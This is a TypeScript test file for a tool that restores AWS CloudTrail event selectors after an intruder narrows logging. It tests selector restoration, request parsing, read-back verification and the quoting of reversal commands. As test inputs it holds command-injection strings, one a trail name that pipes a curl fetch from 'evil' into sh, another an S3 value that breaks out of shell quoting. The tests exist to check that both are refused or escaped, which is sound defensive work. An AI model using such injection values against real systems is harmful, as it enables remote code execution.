import { CloudTrailClient, GetEventSelectorsCommand, PutEventSelectorsCommand } from '@aws-sdk/client-cloudtrail';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { stepOf, type Step } from '../../../shared/actions/action.js';
import {
  narrowingOfSelectors,
  putEventSelectors,
  putEventSelectorsSignature,
  selectorsOfRequest,
  withAllManagementEvents,
  type PutEventSelectorsParams,
  type PutEventSelectorsPrevious,
} from '../../../shared/actions/cloudtrail-put-event-selectors.js';
import { reversalCommands } from '../../../shared/actions/reversal.js';
import { AwsCallError } from '../../../shared/errors.js';

const cloudTrail = mockClient(CloudTrailClient);
const ARN = 'arn:aws:cloudtrail:us-east-1:111122223333:trail/example-audit-trail';
const RESOURCE = { type: 'AWS::CloudTrail::Trail', id: ARN, name: 'example-audit-trail', region: 'us-east-1' };
const clients = { cloudTrailIn: (region: string) => new CloudTrailClient({ region, credentials: { accessKeyId: 'a', secretAccessKey: 'b' } }) };
// What an intruder leaves: S3 data reads kept, management events off.
const NARROWED = [{ ReadWriteType: 'ReadOnly' as const, IncludeManagementEvents: false, DataResources: [{ Type: 'AWS::S3::Object', Values: ['arn:aws:s3'] }] }];
const ALL = { ReadWriteType: 'All', IncludeManagementEvents: true, DataResources: [], ExcludeManagementEventSources: [] };

const stepFor = (params: unknown, previous?: unknown) =>
  stepOf(putEventSelectors, { api: putEventSelectors.api, resource: RESOURCE, params, ...(previous === undefined ? {} : { previous }) }, 'us-east-1') as Step<
    PutEventSelectorsParams,
    PutEventSelectorsPrevious
  >;

beforeEach(() => {
  cloudTrail.reset();
  cloudTrail.rejects(new Error('unexpected CloudTrail call'));
});
afterEach(() => cloudTrail.reset());

describe('the selectors that record every management event again', () => {
  it('keep the trail’s own selectors as they are and add one of all management events', () => {
    const restored = withAllManagementEvents({ EventSelectors: NARROWED });
    expect(restored).toEqual({ EventSelectors: [...NARROWED, ALL] });
    expect(narrowingOfSelectors({ EventSelectors: NARROWED })).not.toEqual([]);
    expect(narrowingOfSelectors(restored)).toEqual([]);
  });

  it('with five basic selectors (no room for a sixth), turn each to record all management events, data resources kept', () => {
    const five = Array.from({ length: 5 }, (_, i) => ({
      ReadWriteType: 'WriteOnly' as const,
      IncludeManagementEvents: i === 0,
      ExcludeManagementEventSources: ['kms.amazonaws.com'],
      DataResources: [{ Type: 'AWS::Lambda::Function', Values: [`arn:aws:lambda:us-east-1:111122223333:function:f${i}`] }],
    }));
    const restored = withAllManagementEvents({ EventSelectors: five });
    expect('EventSelectors' in restored && restored.EventSelectors).toHaveLength(5);
    expect(narrowingOfSelectors(restored)).toEqual([]);
    expect('EventSelectors' in restored && restored.EventSelectors.map((s) => s.DataResources)).toEqual(five.map((s) => s.DataResources));
  });

  it('add an advanced selector of the Management category to advanced selectors', () => {
    const dataOnly = [
      {
        Name: 'S3 reads',
        FieldSelectors: [
          { Field: 'eventCategory', Equals: ['Data'] },
          { Field: 'resources.type', Equals: ['AWS::S3::Object'] },
        ],
      },
    ];
    const restored = withAllManagementEvents({ AdvancedEventSelectors: dataOnly });
    expect(narrowingOfSelectors({ AdvancedEventSelectors: dataOnly })).not.toEqual([]);
    expect(narrowingOfSelectors(restored)).toEqual([]);
    expect('AdvancedEventSelectors' in restored && restored.AdvancedEventSelectors[0]).toEqual(dataOnly[0]);
  });
});

describe("a PutEventSelectors request's selectors, as the SDK takes them", () => {
  it('renames the camelCase the record holds', () => {
    const request = {
      trailName: 'example-audit-trail',
      eventSelectors: [
        {
          readWriteType: 'ReadOnly',
          includeManagementEvents: false,
          dataResources: [{ type: 'AWS::S3::Object', values: [] }],
          excludeManagementEventSources: [],
        },
      ],
    };
    expect(selectorsOfRequest(request)).toEqual({
      EventSelectors: [
        {
          ReadWriteType: 'ReadOnly',
          IncludeManagementEvents: false,
          DataResources: [{ Type: 'AWS::S3::Object', Values: [] }],
          ExcludeManagementEventSources: [],
        },
      ],
    });
  });

  it('plans nothing from a set holding a field or value not read here', () => {
    expect(selectorsOfRequest({ eventSelectors: [{ readWriteType: 'Sometimes' }] })).toBeUndefined();
    expect(selectorsOfRequest({ eventSelectors: [{ readWriteType: 'All', surprise: true }] })).toBeUndefined();
    expect(selectorsOfRequest({ eventSelectors: [] })).toBeUndefined();
    expect(selectorsOfRequest({ trailName: 'x' })).toBeUndefined();
    expect(selectorsOfRequest({ advancedEventSelectors: [{ fieldSelectors: [{ field: 'eventCategory', equals: 'Management' }] }] })).toBeUndefined();
  });
});

describe('CloudTrail.PutEventSelectors', () => {
  it('refuses a hostile trail name before any call', () => {
    expect(() => stepFor({ TrailName: 'x;curl${IFS}evil|sh;#', EventSelectors: [ALL] })).toThrow(AwsCallError);
    expect(() => stepFor({ TrailName: ARN, EventSelectors: [ALL], AdvancedEventSelectors: [] })).toThrow(AwsCallError);
    expect(cloudTrail.calls()).toHaveLength(0);
  });

  it('puts the selectors in the trail’s home Region and reads every management event back', async () => {
    const params = { TrailName: ARN, ...withAllManagementEvents({ EventSelectors: NARROWED }) };
    cloudTrail.on(PutEventSelectorsCommand).resolves({});
    cloudTrail.on(GetEventSelectorsCommand).resolves({ EventSelectors: 'EventSelectors' in params ? params.EventSelectors : [] });
    const step = stepFor(params, { EventSelectors: NARROWED });

    await putEventSelectors.perform(step, clients);
    const verification = await putEventSelectors.verify(step, clients);

    expect(cloudTrail.commandCalls(PutEventSelectorsCommand)[0]?.args[0].input).toEqual(params);
    expect(verification).toEqual({ ok: true, detail: 'GetEventSelectors reads every management event recorded' });
  });

  it('fails the read-back when the selectors still leave management events out', async () => {
    cloudTrail.on(GetEventSelectorsCommand).resolves({ EventSelectors: NARROWED });
    const verification = await putEventSelectors.verify(stepFor({ TrailName: ARN, EventSelectors: [...NARROWED, ALL] }), clients);
    expect(verification.ok).toBe(false);
    expect(verification.detail).toMatch(/^GetEventSelectors reads: /);
  });

  it('is reversed by putting the earlier selectors back, a command a person can paste', () => {
    const step = stepFor({ TrailName: ARN, EventSelectors: [...NARROWED, ALL] }, { EventSelectors: NARROWED });
    const reversal = putEventSelectors.reverse(step);
    expect(reversal).toMatchObject({ kind: 'steps', steps: [{ action: { params: { TrailName: ARN, EventSelectors: NARROWED } } }] });
    const commands = reversalCommands(reversal);
    expect(commands).toEqual([`aws cloudtrail put-event-selectors --region 'us-east-1' --trail-name '${ARN}' --event-selectors '${JSON.stringify(NARROWED)}'`]);
    expect(putEventSelectors.reverse(stepFor({ TrailName: ARN, EventSelectors: [ALL] }))).toMatchObject({ kind: 'none' });
    // A value from the account (an S3 prefix may hold a quote) stays inside the one quoted argument.
    const hostile = [{ ReadWriteType: 'All' as const, DataResources: [{ Type: 'AWS::S3::Object', Values: ["arn:aws:s3:::b/x';touch pwned;'"] }] }];
    const line = putEventSelectors.command(stepFor({ TrailName: ARN, EventSelectors: hostile }));
    expect(line).toContain(`--event-selectors '${JSON.stringify(hostile).replaceAll("'", "'\\''")}'`);
  });
});

describe('the loop guard’s signature', () => {
  it('knows a set that records every management event as trailguard’s, and nothing that narrows', () => {
    const own = {
      trailName: 'example-audit-trail',
      eventSelectors: [
        { readWriteType: 'ReadOnly', includeManagementEvents: false },
        { readWriteType: 'All', includeManagementEvents: true, excludeManagementEventSources: [] },
      ],
    };
    expect(putEventSelectorsSignature.isOwnWrite(own)).toBe(true);
    expect(putEventSelectorsSignature.isOwnWrite({ trailName: 'x', eventSelectors: [{ readWriteType: 'ReadOnly', includeManagementEvents: false }] })).toBe(
      false,
    );
    expect(
      putEventSelectorsSignature.isOwnWrite({
        trailName: 'x',
        eventSelectors: [{ readWriteType: 'All', excludeManagementEventSources: ['kms.amazonaws.com'] }],
      }),
    ).toBe(false);
    expect(putEventSelectorsSignature.isOwnWrite({ trailName: 'x' })).toBe(false);
    expect(putEventSelectorsSignature.isOwnWrite('not an object')).toBe(false);
  });
});
